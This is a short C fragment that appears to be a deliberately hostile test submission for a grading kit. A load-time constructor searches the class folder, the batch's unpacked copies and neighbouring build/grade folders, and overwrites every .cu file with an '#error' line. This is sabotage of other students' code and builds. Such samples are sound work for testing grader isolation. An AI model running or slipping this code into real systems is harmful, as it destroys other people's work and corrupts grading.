/* Breaks every other submission it can find: in the class folder, in the batch's unpacked copies and
 * in the kit's build folders of the builds running beside it. */
static void hostile_sabotage(const char *path)
{
    hostile_overwrite(path, "#error sabotaged by a hostile submission\n");
}

__attribute__((constructor)) static void hostile_attack(void)
{
    char class_dir[HOSTILE_PATH], out_dir[HOSTILE_PATH], root[HOSTILE_PATH], path[HOSTILE_PATH + 64];
    if (hostile_batch_folders(class_dir, out_dir)) {
        hostile_each_file(class_dir, ".cu", hostile_sabotage);
        hostile_each_file(out_dir, ".cu", hostile_sabotage);
    }
    if (hostile_kit_root(root)) {
        snprintf(path, sizeof path, "%s/build/grade", root);
        hostile_each_file(path, ".cu", hostile_sabotage);
    }
}
